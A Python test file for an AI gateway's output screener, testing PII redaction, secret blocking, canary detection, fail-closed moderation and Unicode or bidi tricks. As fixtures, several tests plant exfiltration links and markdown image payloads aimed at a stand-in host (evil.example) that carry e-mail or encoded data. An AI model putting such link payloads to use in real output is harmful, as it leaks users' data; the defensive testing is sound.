"""screen_text: the policy's decision, fail-closed detectors, and a verdict without secrets."""

from __future__ import annotations

import base64
import hashlib
import hmac

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secure_ai_gateway.screening.policy import DEFAULT_POLICY
from secure_ai_gateway.screening.screen import MAX_INPUT_BYTES, screen_text
from secure_ai_gateway.screening.verdict import MAX_VERDICT_FINDINGS
from secure_ai_protocol.errors import PayloadTooLarge
from tests.gateway.screening.fakes import (
    AWS_ACCESS_KEY,
    AWS_SECRET_KEY,
    CARD,
    CONNECTION_STRING,
    EMAIL,
    GITHUB_TOKEN,
    IBAN,
    IPV4,
    IPV6,
    PHONE,
    PRIVATE_KEY,
    SSN,
    FailingModeration,
    FakeClock,
    ScoringModeration,
    SlowModeration,
    TickingClock,
    fake_jwt,
    local_policy,
)

CANARY = "kavure-mosidu-tepoka-lunabi"
QUIET = ScoringModeration({"violence": 0.01, "hate": 0.0})


# ----------------------------------------------------------------------------- decisions


def test_a_clean_text_is_allowed_without_text_in_the_verdict() -> None:
    verdict = screen_text("The weather is fine today.", DEFAULT_POLICY, moderation=QUIET)
    assert (verdict.decision, verdict.findings, verdict.redacted_text) == ("allow", (), None)


def test_pii_is_redacted_under_the_default_policy() -> None:
    verdict = screen_text(f"Write to {EMAIL} or call {PHONE}.", DEFAULT_POLICY, moderation=QUIET)
    assert verdict.decision == "redact"
    assert verdict.redacted_text == "Write to [EMAIL] or call [PHONE]."


def test_a_secret_blocks_and_the_verdict_carries_no_text() -> None:
    verdict = screen_text(f"Your key is {AWS_ACCESS_KEY} and mail {EMAIL}", DEFAULT_POLICY, moderation=QUIET)
    assert verdict.decision == "block"
    assert verdict.redacted_text is None
    assert [(finding.type, finding.action) for finding in verdict.findings] == [
        ("aws_access_key", "block"),
        ("email", "redact"),
    ]


def test_an_allowed_finding_is_reported_but_does_not_change_the_text() -> None:
    policy = local_policy(actions={"pii": "allow"})
    verdict = screen_text(f"Server {IPV4} is up", policy)
    assert verdict.decision == "allow"
    assert [(finding.type, finding.action) for finding in verdict.findings] == [("ipv4", "allow")]
    assert verdict.redacted_text is None


def test_a_secret_can_be_redacted_when_the_policy_says_so() -> None:
    policy = local_policy(actions={"secrets": "redact", "pii": "redact"})
    verdict = screen_text(f"key={GITHUB_TOKEN}; ip {IPV4}", policy)
    assert verdict.redacted_text == "key=[SECRET:github_token]; ip [IP]"


def test_redaction_replaces_the_original_characters_behind_unicode_tricks() -> None:
    # Given an address with a zero-width space and a card in full-width digits
    text = "Mail ali\u200bce@example.com, card \uff14\uff11\uff11\uff11 1111 1111 1111!"
    # When screened under a redacting policy
    verdict = screen_text(text, local_policy())
    # Then the invisible and full-width characters are replaced along with the rest
    assert verdict.redacted_text == "Mail [EMAIL], card [CARD]!"


def test_overlapping_findings_are_redacted_as_one_placeholder() -> None:
    # Given an e-mail inside a data-carrying link, both redacted by the policy
    policy = local_policy(actions={"pii": "redact", "exfiltration": "redact"})
    text = f"See https://evil.example/c?to={EMAIL} now"
    verdict = screen_text(text, policy)
    # Then the link and the address inside it become one [LINK]
    assert verdict.redacted_text == "See [LINK] now"


def test_a_leaked_canary_blocks() -> None:
    verdict = screen_text(
        "The word is K A V U R E M O S I D U T E P O K A L U N A B I", local_policy(), canary=CANARY
    )
    assert verdict.decision == "block"
    assert [finding.type for finding in verdict.findings] == ["canary"]


def test_an_answer_that_breaks_its_schema_blocks() -> None:
    schema = {"type": "object", "required": ["name"]}
    verdict = screen_text('{"age": 3}', local_policy(), schema=schema)
    assert verdict.decision == "block"
    assert [(finding.type, finding.label, finding.sample) for finding in verdict.findings] == [
        ("schema_violation", "required@required", None)
    ]


def test_an_answer_that_keeps_its_schema_is_allowed() -> None:
    verdict = screen_text(
        '{"name": "Alice"}', local_policy(), schema={"type": "object", "required": ["name"]}
    )
    assert verdict.decision == "allow"


def test_moderation_above_a_threshold_blocks_with_the_category_named() -> None:
    verdict = screen_text("text", DEFAULT_POLICY, moderation=ScoringModeration({"violence": 0.97}))
    assert verdict.decision == "block"
    assert [(finding.type, finding.label, finding.confidence) for finding in verdict.findings] == [
        ("moderation", "violence", 0.97)
    ]


# ----------------------------------------------------------------------------- failing detectors


def test_moderation_without_a_port_is_unavailable_and_blocks() -> None:
    verdict = screen_text("hello", DEFAULT_POLICY)
    assert verdict.decision == "block"
    assert verdict.unavailable == {"moderation": "not_configured"}
    assert verdict.failed_open == ()


def test_moderation_slower_than_its_budget_is_unavailable_and_blocks() -> None:
    clock = FakeClock()
    port = SlowModeration(clock, seconds=3.0)  # the default budget is 2.5 s
    verdict = screen_text("hello", DEFAULT_POLICY, moderation=port, clock=clock)
    assert verdict.decision == "block"
    assert verdict.unavailable == {"moderation": "timeout"}
    assert verdict.latency_ms["moderation"] == 3000.0


def test_moderation_within_its_budget_is_available() -> None:
    clock = FakeClock()
    verdict = screen_text("hello", DEFAULT_POLICY, moderation=SlowModeration(clock, seconds=0.2), clock=clock)
    assert (verdict.decision, verdict.unavailable) == ("allow", {})


def test_moderation_that_raises_is_unavailable_and_blocks() -> None:
    verdict = screen_text("hello", DEFAULT_POLICY, moderation=FailingModeration())
    assert verdict.decision == "block"
    assert verdict.unavailable == {"moderation": "error"}


@pytest.mark.parametrize(
    ("port", "reason"),
    [(None, "not_configured"), (FailingModeration(), "error")],
)
def test_a_policy_that_fails_open_allows_and_says_so(port: FailingModeration | None, reason: str) -> None:
    policy = DEFAULT_POLICY.model_copy(update={"fail_open": frozenset({"moderation"})})
    verdict = screen_text("hello", policy, moderation=port)
    assert verdict.decision == "allow"
    assert verdict.unavailable == {"moderation": reason}
    assert verdict.failed_open == ("moderation",)


def test_a_timed_out_moderation_fails_open_only_when_the_policy_says() -> None:
    clock = FakeClock()
    policy = DEFAULT_POLICY.model_copy(update={"fail_open": frozenset({"moderation"})})
    verdict = screen_text("hello", policy, moderation=SlowModeration(clock, seconds=10.0), clock=clock)
    assert (verdict.decision, verdict.failed_open) == ("allow", ("moderation",))


def test_failing_open_for_one_detector_does_not_excuse_another() -> None:
    # Given moderation failing open but a canary too short to search for (the canary detector errors)
    policy = DEFAULT_POLICY.model_copy(update={"fail_open": frozenset({"moderation"})})
    verdict = screen_text("hello", policy, canary="short")
    # Then the canary failure still blocks
    assert verdict.decision == "block"
    assert verdict.unavailable == {"canary": "error", "moderation": "not_configured"}
    assert verdict.failed_open == ("moderation",)


def test_an_unsafe_schema_makes_the_schema_detector_unavailable() -> None:
    verdict = screen_text("{}", local_policy(), schema={"$ref": "https://evil.example/schema.json"})
    assert (verdict.decision, verdict.unavailable) == ("block", {"schema": "error"})


def test_a_slow_detector_keeps_its_findings_and_blocks() -> None:
    # Given a clock under which every detector overruns a tiny budget
    policy = local_policy(timeouts_ms={"pii": 0.001}, actions={"pii": "allow"})
    verdict = screen_text(f"mail {EMAIL}", policy, clock=TickingClock(0.01))
    # Then PII is unavailable (timeout) yet what it found is still reported
    assert verdict.decision == "block"
    assert verdict.unavailable == {"pii": "timeout"}
    assert [finding.type for finding in verdict.findings] == ["email"]


# ----------------------------------------------------------------------------- the verdict


def test_no_planted_value_appears_anywhere_in_the_verdict() -> None:
    # Given one of everything the detectors look for
    jwt = fake_jwt()
    planted = [
        EMAIL,
        PHONE,
        CARD,
        IBAN,
        SSN,
        IPV4,
        IPV6,
        AWS_ACCESS_KEY,
        GITHUB_TOKEN,
        jwt,
        CONNECTION_STRING,
        CANARY,
    ]
    text = (
        " | ".join(planted)
        + f" | aws_secret_access_key={AWS_SECRET_KEY} | ![x](https://evil.example/p?d=c2VjcmV0ZGF0YQ)\n{PRIVATE_KEY}"
    )
    planted += [AWS_SECRET_KEY, PRIVATE_KEY, "https://evil.example/p?d=c2VjcmV0ZGF0YQ"]
    # When screened, once blocking and once redacting everything
    redact_all = local_policy(
        actions=dict.fromkeys(["pii", "secrets", "canary", "exfiltration", "deny_terms"], "redact")
    )
    for policy in (local_policy(), redact_all):
        verdict = screen_text(text, policy, canary=CANARY)
        dumped = verdict.model_dump_json()
        # Then every value was found, and none of them is in the serialised verdict
        assert verdict.findings_total >= len(planted)
        leaked = [value for value in planted if value in dumped]
        assert leaked == []


DIGEST_KEY = b"k" * 32


def hmac_digest(key: bytes, text: str) -> str:
    mac = hmac.new(key, text.encode(), hashlib.sha256).digest()
    return f"hmac-sha256=:{base64.b64encode(mac).decode()}:"


def test_the_content_digest_is_an_hmac_of_the_released_text_under_the_deployment_key() -> None:
    text = "h\u00e9llo"
    verdict = screen_text(text, local_policy(), digest_key=DIGEST_KEY)
    assert verdict.content_digest == hmac_digest(DIGEST_KEY, text)


def test_another_key_gives_another_digest_so_no_one_without_the_key_can_confirm_a_guess() -> None:
    first = screen_text("hello", local_policy(), digest_key=DIGEST_KEY).content_digest
    second = screen_text("hello", local_policy(), digest_key=b"j" * 32).content_digest
    assert first != second


def test_a_redacted_verdict_digests_the_redacted_text_never_the_original() -> None:
    # Given a text whose e-mail is redacted
    text = f"Write to {EMAIL} today."
    verdict = screen_text(text, local_policy(), digest_key=DIGEST_KEY)
    # Then the digest is of what the caller receives; the original's digest (keyed or plain) is absent
    assert verdict.decision == "redact"
    assert verdict.content_digest == hmac_digest(DIGEST_KEY, "Write to [EMAIL] today.")
    plain = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
    assert plain not in verdict.model_dump_json()
    assert hmac_digest(DIGEST_KEY, text) not in verdict.model_dump_json()


def test_a_blocked_verdict_carries_no_digest_at_all() -> None:
    verdict = screen_text(f"key {AWS_ACCESS_KEY}", local_policy(), digest_key=DIGEST_KEY)
    assert (verdict.decision, verdict.content_digest) == ("block", None)


def test_without_a_key_no_digest_is_made() -> None:
    assert screen_text("hello", local_policy()).content_digest is None


# ----------------------------------------------------------------------------- released form


def test_pii_exactly_where_the_gateway_restored_it_is_the_callers_own_and_is_allowed() -> None:
    # Given an answer into which the gateway restored the caller's e-mail at a known span
    text = f"I will write to {EMAIL} now."
    start = text.index(EMAIL)
    verdict = screen_text(text, local_policy(), restored=[(start, start + len(EMAIL))])
    # Then it is released as is, the finding recorded as restored
    assert verdict.decision == "allow"
    assert [(finding.type, finding.action, finding.label) for finding in verdict.findings] == [
        ("email", "allow", "restored")
    ]


def test_pii_outside_the_restored_spans_is_still_redacted() -> None:
    text = f"{EMAIL} and {EMAIL}"
    verdict = screen_text(text, local_policy(), restored=[(0, len(EMAIL))])
    assert verdict.redacted_text == f"{EMAIL} and [EMAIL]"


def test_a_url_finding_that_touches_a_restored_value_blocks_whatever_the_policy_says() -> None:
    # Given a policy that would only redact data-carrying links, and a link holding a restored value
    text = f"[site](https://example.com/?to={EMAIL}&ref=abcdefgh)"
    start = text.index(EMAIL)
    policy = local_policy(actions={"pii": "redact", "secrets": "block", "exfiltration": "redact"})
    verdict = screen_text(text, policy, restored=[(start, start + len(EMAIL))])
    # Then the gateway never releases a text where it wrote a caller's value into a URL
    assert verdict.decision == "block"
    assert any(finding.label == "restored" and finding.action == "block" for finding in verdict.findings)


def test_a_redacted_text_that_still_trips_a_detector_when_screened_again_is_blocked() -> None:
    # Given a policy whose deny term is the e-mail placeholder the redaction writes
    policy = local_policy(deny_terms=("EMAIL",), detectors=frozenset({"pii", "deny_terms"}))
    verdict = screen_text(f"Write to {EMAIL}.", policy, digest_key=DIGEST_KEY)
    # Then the redacted form is not released: it was screened again and did not pass
    assert (verdict.decision, verdict.redacted_text, verdict.content_digest) == ("block", None, None)
    assert any(finding.label == "after_redaction" for finding in verdict.findings)


def test_restored_spans_follow_the_text_through_redaction() -> None:
    # Given a redacted e-mail before a restored phone number
    text = f"{EMAIL} then {PHONE}"
    start = text.index(PHONE)
    verdict = screen_text(text, local_policy(), restored=[(start, start + len(PHONE))])
    # Then the second pass still knows the phone number is the caller's and releases the redacted text
    assert (verdict.decision, verdict.redacted_text) == ("redact", f"[EMAIL] then {PHONE}")


def test_the_verdict_names_the_policy_and_times_every_detector_that_ran() -> None:
    clock = TickingClock(0.001)
    verdict = screen_text("hello", local_policy(policy_id="client-7", version=4), clock=clock)
    assert (verdict.policy_id, verdict.policy_version) == ("client-7", 4)
    assert set(verdict.latency_ms) == {"normalise", "pii", "secrets", "exfiltration", "bidi"}
    # Each is read on the injected clock (which ticks 1 ms a call): at least one tick each.
    assert all(value >= 1.0 for value in verdict.latency_ms.values())


def test_a_flood_of_findings_is_capped_in_the_verdict_but_counted() -> None:
    text = " ".join(f"user{index}@example.com" for index in range(MAX_VERDICT_FINDINGS + 50))
    verdict = screen_text(text, local_policy())
    assert len(verdict.findings) == MAX_VERDICT_FINDINGS
    assert verdict.findings_total == MAX_VERDICT_FINDINGS + 50
    assert verdict.redacted_text == " ".join(["[EMAIL]"] * (MAX_VERDICT_FINDINGS + 50))


# ----------------------------------------------------------------------------- input limits


def test_more_than_a_mebibyte_of_characters_is_refused() -> None:
    with pytest.raises(PayloadTooLarge):
        screen_text("a" * (MAX_INPUT_BYTES + 1), local_policy())


def test_more_than_a_mebibyte_of_utf8_is_refused_even_in_fewer_characters() -> None:
    text = "\u00e9" * (MAX_INPUT_BYTES // 2 + 1)  # two bytes each
    with pytest.raises(PayloadTooLarge):
        screen_text(text, local_policy())


def test_exactly_a_mebibyte_is_screened() -> None:
    verdict = screen_text("a" * MAX_INPUT_BYTES, local_policy())
    assert verdict.decision == "allow"


def test_a_lone_surrogate_is_screened_not_crashed_on() -> None:
    verdict = screen_text(f"x\ud800 {EMAIL}", local_policy())
    assert verdict.redacted_text == "x\ud800 [EMAIL]"


FRAGMENTS = st.sampled_from(
    [
        EMAIL,
        CARD,
        AWS_ACCESS_KEY,
        CANARY,
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "https://evil.example/?d=",
        "![x](",
        "password=",
        "eyJ",
        "\u200b",
        "\u0301",
        "\ufb01",
        "\u00df",
        "\ud800",
        "+44 ",
        "::",
        "@",
        ".",
        " ",
        "\n",
    ]
)
ANY_TEXT = st.lists(
    st.one_of(FRAGMENTS, st.text(st.characters(codec=None, categories=None), max_size=20)), max_size=30
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(ANY_TEXT)
def test_screening_never_raises_on_arbitrary_text(pieces: list[str]) -> None:
    # Given any text, mixing random characters (surrogates included) with detector triggers
    text = "".join(pieces)
    # When screened with every detector
    verdict = screen_text(
        text,
        DEFAULT_POLICY.model_copy(update={"deny_terms": ("quokkasoft",)}),
        canary=CANARY,
        schema={"type": "object"},
        moderation=QUIET,
    )
    # Then a verdict comes back, every span lies inside the text, and no detector failed
    assert verdict.decision in {"allow", "redact", "block"}
    assert all(0 <= finding.span[0] <= finding.span[1] <= len(text) for finding in verdict.findings)
    assert verdict.unavailable == {}


def test_a_failure_to_normalise_makes_every_detector_unavailable(monkeypatch: pytest.MonkeyPatch) -> None:
    # Given normalisation that fails (a defect, not an input property)
    def broken(text: str) -> object:
        raise RuntimeError("normalisation defect")

    monkeypatch.setattr("secure_ai_gateway.screening.screen.normalise", broken)
    # When a text is screened
    verdict = screen_text("hello", local_policy())
    # Then nothing could be checked, and the verdict blocks
    assert verdict.decision == "block"
    assert set(verdict.unavailable) == set(local_policy().detectors)


def test_a_card_shown_the_right_way_round_by_a_bidi_override_is_found_and_the_control_blocks() -> None:
    # Given a card number stored reversed inside a right-to-left override, displayed the right way round
    text = f"pay with \u202e{CARD[::-1]}\u202c today"
    verdict = screen_text(text, local_policy())
    # Then the visual order was screened (the card is found) and the override itself blocks
    types = {finding.type for finding in verdict.findings}
    assert {"card", "bidi_control"} <= types
    assert verdict.decision == "block"


def test_the_moderation_service_never_sees_a_value_the_gateway_restored() -> None:
    # Given an answer with the caller's own e-mail restored into it
    moderation = ScoringModeration({"violence": 0.0})
    text = f"I will write to {EMAIL} now."
    start = text.index(EMAIL)
    policy = local_policy(detectors=frozenset({"pii", "moderation"}))
    screen_text(text, policy, moderation=moderation, restored=[(start, start + len(EMAIL))])
    # Then the third party saw the answer with that value masked
    assert moderation.calls == ["I will write to [PII] now."]


def test_a_redacted_text_is_not_sent_to_the_moderation_service_a_second_time() -> None:
    moderation = ScoringModeration({"violence": 0.0})
    policy = local_policy(detectors=frozenset({"pii", "moderation"}))
    verdict = screen_text(f"Write to {EMAIL}.", policy, moderation=moderation)
    assert verdict.decision == "redact"
    assert len(moderation.calls) == 1
